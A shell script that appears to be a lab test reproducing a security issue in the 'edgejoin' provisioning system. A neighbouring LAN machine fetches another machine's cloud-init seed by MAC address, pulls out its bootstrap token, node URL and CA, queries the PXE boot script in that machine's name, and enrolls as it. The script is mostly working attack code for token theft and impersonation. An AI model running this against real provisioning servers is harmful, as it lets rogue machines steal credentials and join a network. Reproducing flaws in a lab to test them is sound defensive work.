#!/bin/sh
# The neighbour of issue 9: another machine on the site LAN (the lab guest image, its own DHCP
# address) that waits for the lab's signal, fetches a joined machine's NoCloud seed and enrolls
# as that machine with whatever the seed gives it: the bootstrap token, the node URL, the CA. It
# does what edgejoin's agent does (POSIX sh + curl), only with a MAC that is not its own, after
# an anonymous /boot.ipxe sighting in that machine's name with another identity, and says what
# it got on the serial console, one "edgejoin-neighbour:" line per step.
#   neighbour.sh VICTIM_MAC BASE_URL
set -u
VICTIM=$1
BASE=${2%/}
OUT=/run/edgejoin-neighbour
mkdir -p "$OUT"
say() { echo "edgejoin-neighbour: $*" >/dev/ttyS0; }

ip=$(hostname -I | tr ' ' '\n' | grep -E '^[0-9]+(\.[0-9]+){3}$' | head -n 1)
say "up at ${ip:-no address}; waiting for the signal to play $VICTIM"
i=0
until curl -fsS -m 5 -o /dev/null "$BASE/artifacts/lab-neighbour/go"; do
	i=$((i + 1))
	if [ "$i" -ge 600 ]; then
		say "RESULT gave up waiting for the signal"
		exit 1
	fi
	sleep 1
done

seed=$(curl -sS -m 20 -o "$OUT/user-data" -w '%{http_code}' "$BASE/cloud-init/$VICTIM/user-data") || seed=000
say "seed of $VICTIM: HTTP $seed, $(wc -c <"$OUT/user-data") bytes"
# The agent's state files, from a plain cloud-config or from autoinstall's nested user-data.
python3 - "$OUT" <<'PY'
import sys, yaml
out = sys.argv[1]
try:
    d = yaml.safe_load(open(out + "/user-data")) or {}
except Exception:
    d = {}
if isinstance(d, dict) and "autoinstall" in d:
    d = (d["autoinstall"] or {}).get("user-data") or {}
for f in (d.get("write_files") or []) if isinstance(d, dict) else []:
    p = str(f.get("path", ""))
    if p.startswith("/var/lib/edgejoin-agent/"):
        with open(out + "/" + p.rsplit("/", 1)[1], "w") as w:
            w.write(str(f.get("content", "")))
PY
first() { [ -s "$OUT/$1" ] && head -n 1 "$OUT/$1" | tr -d '\r\n'; }
token=$(first bootstrap-token) || token=""
node=$(first node-url) || node=$(first server-url) || node=$BASE
node=${node%/}
say "stolen: token $([ -n "$token" ] && echo yes || echo none), node URL $node, CA $([ -s "$OUT/ca.pem" ] && echo yes || echo none)"

# An anonymous sighting in the victim's name with another identity (SMBIOS UUID, serial, arch):
# what would the victim's next PXE boot run?
q="mac=$VICTIM&uuid=6e0a51b0-0000-4000-8000-00000000ab99&serial=NEIGHBOUR&arch=arm64&platform=efi&manufacturer=lab&product=neighbour"
script=$(curl -sS -m 20 "$BASE/boot.ipxe?$q" | sed -n 's/^echo edgejoin: //p' | head -n 1)
case $script in
*"is installed - booting from its local disk"*) boot=local-disk ;;
installing*) boot=installer ;;
*) boot=other ;;
esac
say "boot script for $VICTIM: $script"

printf '{"token":"%s","mac":"%s","hostname":"neighbour","ip":"%s","facts":{"agent":"edgejoin-neighbour"}}' "$token" "$VICTIM" "$ip" >"$OUT/enroll.json"
set -- -sS -m 30 -o "$OUT/enroll.out" -w '%{http_code}' -H 'Content-Type: application/json' --data-binary "@$OUT/enroll.json"
[ -s "$OUT/ca.pem" ] && set -- "$@" --cacert "$OUT/ca.pem"
code=$(curl "$@" "$node/api/v1/enroll" 2>"$OUT/curl.err") || code=000
say "RESULT status=$code token=$([ -n "$token" ] && echo yes || echo none) ip=$ip boot=$boot body=$(head -c 600 "$OUT/enroll.out" 2>/dev/null | tr -d '\r\n') curl=$(head -c 200 "$OUT/curl.err" | tr -d '\r\n')"
